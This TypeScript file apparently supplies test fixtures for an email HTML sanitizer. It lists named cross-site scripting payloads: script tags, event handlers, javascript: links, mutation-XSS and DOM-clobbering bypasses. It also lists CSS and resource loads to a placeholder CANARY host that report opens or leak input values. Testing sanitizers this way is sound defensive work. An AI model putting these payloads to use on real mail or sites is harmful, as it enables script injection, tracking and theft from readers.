/**
 * Mails that try to run a script or to tell a server that they were opened. `CANARY` stands for a
 * server's origin and `RAN` for a statement that reports a script run. Known shapes, in our words.
 */
export const attacks: Record<string, string> = {
  // Scripts
  'script element': '<script>RAN</script>',
  'script from a server': '<script src="CANARY/s.js"></script>',
  'module script': '<script type="module">RAN</script>',
  'script in head': '<html><head><script>RAN</script></head><body>x</body></html>',
  'script with odd closing': '<script x>RAN</script x\n>',
  'script in svg': '<svg><script>RAN</script></svg>',
  'script by svg href': '<svg><script href="data:text/javascript,RAN"></script></svg>',
  'noscript confusion': '<noscript><p title="</noscript><img src=x onerror=RAN>"></noscript>',
  'half-open script': '<scr<script>ipt>RAN</scr</script>ipt>',
  'template with script': '<template><script>RAN</script></template>',
  'declarative shadow root':
    '<div><template shadowrootmode="open"><script>RAN</script><img src="CANARY/shadow"></template></div>',
  'import map': '<script type="importmap">{"imports":{"a":"CANARY/m.js"}}</script>',
  'speculation rules':
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["CANARY/spec"]}]}</script>',
  // Handlers
  'image error': '<img src=x onerror="RAN">',
  'image load':
    '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="RAN">',
  'body load': '<body onload="RAN">',
  'body page show': '<body onpageshow="RAN">',
  'autofocus handler': '<input autofocus onfocus="RAN">',
  'focusable by tabindex': '<div tabindex=0 autofocus onfocus="RAN">x</div>',
  'details toggle': '<details open ontoggle="RAN">x</details>',
  'animation start':
    '<style>@keyframes a{from{color:red}}</style><p style="animation:a 1ms" onanimationstart="RAN">x',
  'transition end': '<p style="transition:color 1ms" ontransitionend="RAN">x',
  'svg load': '<svg onload="RAN"></svg>',
  'slash-separated handler': '<svg/onload=RAN>',
  'marquee start': '<marquee onstart="RAN">x</marquee>',
  'video error': '<video><source onerror="RAN"></video>',
  'audio source': '<audio src="CANARY/a.mp3" onerror="RAN" autoplay></audio>',
  'scroll end':
    '<div onscrollend="RAN" style="overflow:auto;height:10px"><p id=x style="height:99px">',
  'content visibility':
    '<p style="content-visibility:auto" oncontentvisibilityautostatechange="RAN">x',
  // Addresses that run
  'javascript link': '<a href="javascript:RAN">x</a>',
  'javascript link with tab': '<a href="java&#9;script:RAN">x</a>',
  'javascript link with entity': '<a href="&#106;avascript&colon;RAN">x</a>',
  'javascript link with control character': '<a href="\u0001javascript:RAN">x</a>',
  'data link': '<a href="data:text/html,<script>RAN</script>">x</a>',
  'javascript image': '<img src="javascript:RAN">',
  'javascript frame': '<iframe src="javascript:RAN"></iframe>',
  'frame with document': '<iframe srcdoc="<script>RAN</script>"></iframe>',
  'frame from a server': '<iframe src="CANARY/frame"></iframe>',
  frameset: '<frameset><frame src="CANARY/frameset"></frameset>',
  'object data': '<object data="CANARY/object" type="text/html"></object>',
  'object script': '<object data="data:text/html,<script>parent.RAN</script>"></object>',
  embed: '<embed src="CANARY/embed">',
  'base then relative image': '<base href="CANARY/"><img src="base.png">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=CANARY/refresh">',
  'meta refresh to script': '<meta http-equiv="refresh" content="0;url=javascript:RAN">',
  'form that submits itself':
    '<form action="CANARY/form"><button autofocus onfocus="this.click()">x</form>',
  'form by attribute': '<button form=f formaction="javascript:RAN">x</button><form id=f></form>',
  'svg animated link':
    '<svg><a><animate attributeName="href" values="javascript:RAN"/><text y=20>x</text></a></svg>',
  'svg set handler': '<svg><set attributeName="onmouseover" to="RAN"/></svg>',
  'svg use': '<svg><use href="CANARY/use.svg#x"/></svg>',
  'math link': '<math href="javascript:RAN">x</math>',
  'xlink link': '<svg><a xlink:href="javascript:RAN"><text>x</text></a></svg>',
  // Images and other things that load
  image: '<img src="CANARY/img">',
  'image without scheme': '<img src="//CANARY_HOST/img2">',
  'image with backslashes': '<img src="http:\\\\CANARY_HOST/img3">',
  'image with line breaks': '<img src="ht\ntp://CANARY_HOST/img4">',
  'image srcset': '<img srcset="CANARY/srcset 1x, CANARY/srcset2 2x">',
  'image srcset behind data':
    '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" srcset="CANARY/srcset3">',
  'picture source': '<picture><source srcset="CANARY/picture"><img src="data:,"></picture>',
  'image alias element': '<image src="CANARY/image">',
  'lazy image': '<img loading=eager src="CANARY/lazy">',
  'image input': '<input type=image src="CANARY/input">',
  'body background': '<body background="CANARY/body">x</body>',
  'table background': '<table background="CANARY/table"><tr><td background="CANARY/td">x</table>',
  'video poster': '<video poster="CANARY/poster"></video>',
  'video track': '<video><track src="CANARY/track" default></video>',
  'svg image': '<svg width=9 height=9><image href="CANARY/svgimage" width=9 height=9 /></svg>',
  'svg filter image':
    '<svg><filter id=f><feImage href="CANARY/fe"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
  'svg in data image':
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='CANARY/inner'/></svg>\">",
  'link style sheet': '<link rel=stylesheet href="CANARY/css">',
  'link preconnect': '<link rel=preconnect href="CANARY">',
  'link dns prefetch': '<link rel=dns-prefetch href="CANARY">',
  'link prefetch': '<link rel=prefetch href="CANARY/prefetch">',
  'link preload': '<link rel=preload as=image href="CANARY/preload">',
  'link module preload': '<link rel=modulepreload href="CANARY/mp.js">',
  'link icon': '<link rel=icon href="CANARY/icon">',
  'link manifest': '<link rel=manifest href="CANARY/manifest">',
  'link in body': '<p>x<link rel=stylesheet href="CANARY/css2"></p>',
  'meta link header': '<meta http-equiv="Link" content="<CANARY/h>; rel=preload">',
  ping: '<a href="https://example.com" ping="CANARY/ping">x</a>',
  'manifest attribute': '<html manifest="CANARY/appcache">x</html>',
  'legacy dynsrc': '<img dynsrc="CANARY/dyn" lowsrc="CANARY/low">',
  'fenced frame': '<fencedframe src="CANARY/fenced"></fencedframe>',
  portal: '<portal src="CANARY/portal"></portal>',
  // CSS
  'inline background': '<p style="background:url(CANARY/bg)">x</p>',
  'inline background image': '<p style="background-image:url(\'CANARY/bgi\')">x</p>',
  'inline image set': '<p style="background-image:image-set(\'CANARY/set\' 1x)">x</p>',
  'prefixed image set': '<p style="background-image:-webkit-image-set(url(CANARY/wset) 1x)">x</p>',
  'cross fade':
    '<p style="background-image:-webkit-cross-fade(url(CANARY/cf),url(CANARY/cf2),50%)">x</p>',
  'escaped url': '<p style="background:u\\72l(CANARY/esc)">x</p>',
  'commented url': '<p style="background:/**/url(CANARY/comment)/**/">x</p>',
  'second layer':
    '<p style="background:url(data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7),url(CANARY/layer)">x</p>',
  'list image': '<ul style="list-style:url(CANARY/list)"><li>x</ul>',
  'border image': '<p style="border:9px solid;border-image:url(CANARY/border) 1">x</p>',
  'content image': '<p style="content:url(CANARY/content)">x</p>',
  'cursor image': '<p style="cursor:url(CANARY/cursor),auto">x</p>',
  'mask image': '<p style="mask:url(CANARY/mask);-webkit-mask:url(CANARY/wmask)">x</p>',
  'clip path': '<p style="clip-path:url(CANARY/clip#a)">x</p>',
  filter: '<p style="filter:url(CANARY/filter#a)">x</p>',
  'shape outside': '<p style="float:left;shape-outside:url(CANARY/shape)">x</p>',
  'custom property': '<p style="--a:url(CANARY/var);background:var(--a)">x</p>',
  'fallback of a property': '<p style="background:var(--none,url(CANARY/fallback))">x</p>',
  'sheet background': '<style>p{background:url(CANARY/sheet)}</style><p>x</p>',
  'sheet import': '<style>@import "CANARY/import";</style>',
  'sheet import by url': '<style>@import url(CANARY/import2) screen;</style>',
  'sheet font': '<style>@font-face{font-family:f;src:url(CANARY/font)}p{font-family:f}</style><p>x',
  'sheet before content': '<style>p::before{content:url(CANARY/before)}</style><p>x',
  'sheet in media': '<style>@media all{p{background:url(CANARY/media)}}</style><p>x',
  'sheet in supports':
    '<style>@supports (color:red){p{background:url(CANARY/supports)}}</style><p>x',
  'sheet in layer': '<style>@layer a{p{background:url(CANARY/inlayer)}}</style><p>x',
  'sheet in scope': '<style>@scope (body){p{background:url(CANARY/scope)}}</style><p>x',
  'sheet nested': '<style>body{p{background:url(CANARY/nested)}}</style><p>x',
  'sheet property rule':
    '<style>@property --u{syntax:"<url>";inherits:true;initial-value:url(CANARY/prop)}p{background:var(--u)}</style><p>x',
  'sheet counter style':
    '<style>@counter-style c{system:cyclic;symbols:url(CANARY/counter)}ol{list-style:c}</style><ol><li>x</ol>',
  'sheet keyframes':
    '<style>@keyframes k{to{background:url(CANARY/key)}}p{animation:k 1ms forwards}</style><p>x',
  'sheet namespace': '<style>@namespace url(CANARY/ns);p{color:red}</style><p>x',
  'sheet attribute spy':
    '<style>input[value^=a]{background:url(CANARY/spy)}</style><input value=abc>',
  'sheet ends its element by string':
    '<style>p{font-family:"</style><img src=CANARY/endstyle onerror=RAN>"}</style><p>x',
  'sheet ends its element by selector':
    '<style>a[title="\\3c/style>\\3cimg src=CANARY/sel onerror=RAN>"]{color:red}</style><p>x',
  'old expression':
    '<p style="width:expression(RAN);behavior:url(CANARY/htc);-moz-binding:url(CANARY/xbl)">x',
  'view transition':
    '<style>::view-transition{background:url(CANARY/vt)}html{background:url(CANARY/html)}</style>',
  // Mutation
  'mutation through math and style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RAN&gt;">',
  'mutation through form':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RAN>',
  'mutation through svg style': '<svg></p><style><a id="</style><img src=1 onerror=RAN>">',
  'mutation through title':
    '<svg><title><style><!--</style><img src=CANARY/mt onerror=RAN>--></title></svg>',
  'mutation through annotation':
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=RAN></style></annotation-xml></math>',
  'mutation through textarea':
    '<textarea><img title="</textarea><img src=x onerror=RAN>"></textarea>',
  'mutation through xmp': '<xmp><p title="</xmp><img src=x onerror=RAN>"></xmp>',
  'mutation through noembed': '<noembed><p title="</noembed><img src=x onerror=RAN>">',
  'mutation through comment': '<!--><img src=x onerror=RAN>-->',
  'mutation through comment end': '<!-- --!><img src=x onerror=RAN> -->',
  'mutation through cdata': '<svg><![CDATA[><img src=x onerror=RAN>]]></svg>',
  'mutation through select': '<select><option><style></select><img src=x onerror=RAN></style>',
  'mutation through deep nesting': `${'<div>'.repeat(600)}<svg><style><a title="</style><img src=x onerror=RAN>">`,
  'mutation through attribute of backticks': '<img alt="``onerror=RAN" src=x>',
  'processing instruction': '<?xml-stylesheet href="CANARY/pi"?><?php RAN ?>',
  'conditional comment':
    '<!--[if gte mso 9]><img src="CANARY/mso"><script>RAN</script><![endif]-->',
  'plaintext element': '<plaintext><img src=x onerror=RAN>',
  'custom element': '<x-a onclick=RAN is="x-b"><img src=x onerror=RAN></x-a>',
  'clobbered attributes': '<form id=x><input name=attributes><img src=x onerror=RAN></form>',
  'clobbered children': '<form onclick=RAN><input name=childNodes><input name=parentNode></form>',
  'null characters': '<img src=x on\u0000error=RAN><scr\u0000ipt>RAN</script>',
};
